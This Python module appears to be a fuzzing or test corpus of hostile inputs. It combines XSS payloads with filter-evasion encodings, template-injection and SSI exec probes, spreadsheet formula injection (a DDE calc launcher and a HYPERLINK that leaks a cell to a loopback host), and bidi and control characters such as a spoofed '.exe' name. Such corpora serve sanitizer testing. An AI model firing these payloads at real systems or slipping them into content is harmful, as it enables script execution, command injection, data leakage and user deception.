"""Text that wants to be more than text: markup and script, formulas, and characters that steer a reader's eyes."""

from __future__ import annotations

import itertools

_ELEMENTS = (
    "script",
    "img",
    "svg",
    "iframe",
    "object",
    "embed",
    "video",
    "math",
    "style",
    "link",
    "meta",
    "base",
    "form",
)
_HANDLERS = ("onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationstart", "onbegin")
_CODES = ("alert(1)", "fetch('http://127.0.0.1:9/x')", "document.location='http://127.0.0.1:9'")
_BEFORE = ("", '"', "'", '">', "'>", "-->", "</title>", "</style>", "</script>", "]]>", "</svg>", "\x00", "</textarea>")
_ENCODED = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "&#106;avascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "{{ 7 * 7 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${7*7}",
    "<!--#exec cmd='id'-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><x xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></x>",
    "expression(alert(1))",
    "url(http://127.0.0.1:9/a.png)",
    "@import 'http://127.0.0.1:9/a.css';",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='http://127.0.0.1:9/'>x</a>",
    "<p style='background:url(http://127.0.0.1:9/b.png)'>x</p>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "\ufeff<script>alert(1)</script>",
    "\ud800<script>alert(1)</script>",
)

FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "'=1+1",
    '"=1+1',
    "=cmd|' /C calc'!A0",
    "|calc",
    "%0A=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    '=HYPERLINK("http://127.0.0.1:9/?x="&A1,"x")',
    '";=1+1;"',
    "a,=1+1",
)
STEERING = (
    "abc\u202egpj.exe",
    "\u202dabc\u202c",
    "\u2066abc\u2069",
    "\u200fabc\u200e",
    "\x1b[2Jabc",
    "abc\x00\x07\x08",
    "line\r\nline\u2028line\u2029line\x85line",
    "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030bb",
    "\ud83d",
    "\U000e0041\U000e0042",
    "\ufff9x\ufffa\ufffb",
    "zero\u200bwidth\u2060\ufeff",
)


def _crossed() -> list[str]:
    made = []
    for number, (element, handler, before) in enumerate(itertools.product(_ELEMENTS, _HANDLERS, _BEFORE)):
        if number % 3 == 0:
            made.append(f"{before}<{element} src=x href=x {handler}={_CODES[number % len(_CODES)]}>")
    return made


PAYLOADS = (*_ENCODED, *_crossed(), *(f'x" {handler}="{code}' for handler in _HANDLERS for code in _CODES))
EVERYTHING = (*PAYLOADS, *FORMULAS, *STEERING)
